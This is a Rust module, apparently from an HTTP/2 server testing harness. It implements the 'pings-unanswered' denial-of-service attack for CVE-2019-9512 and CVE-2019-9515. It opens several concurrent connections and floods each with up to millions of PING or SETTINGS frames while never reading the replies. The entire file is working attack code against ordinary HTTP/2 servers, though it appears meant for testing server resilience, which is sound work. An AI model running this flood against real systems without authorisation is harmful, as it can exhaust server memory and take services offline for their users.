//! Pings and settings by the thousand, whose answers are never read (CVE-2019-9512, CVE-2019-9515).

use std::time::Duration;

use anyhow::Result;
use futures::future::join_all;

use crate::peers::{Http2, kind, setting};
use crate::stage::{Limits, Stage};
use crate::{Attack, Budget};

/// The attack.
pub static ATTACK: Attack = Attack {
    name: "pings-unanswered",
    about: "pings and settings whose answers are never read",
    budget: Budget::USUAL,
    limits: Limits::NONE,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: &Stage) -> Result<()> {
    let flood = async |number: usize| {
        let mut peer = Http2::open(stage, &[]).await?;
        let settings = [&setting::INITIAL_WINDOW_SIZE.to_be_bytes()[..], &65_535_u32.to_be_bytes()].concat();
        let flood = async {
            for _ in 0..stage.pick(60_000, 5_000_000) {
                let sent = match number % 2 {
                    0 => peer.send(kind::PING, 0, 0, &[0; 8]).await,
                    _ => peer.send(kind::SETTINGS, 0, 0, &settings).await,
                };
                if sent.is_err() {
                    break;
                }
            }
        };
        // Whoever is not listened to any more is done.
        let _ = tokio::time::timeout(Duration::from_secs(stage.pick(3, 60)), flood).await;
        anyhow::Ok(())
    };
    join_all((0..stage.pick(4, 16)).map(flood)).await;
    Ok(())
}
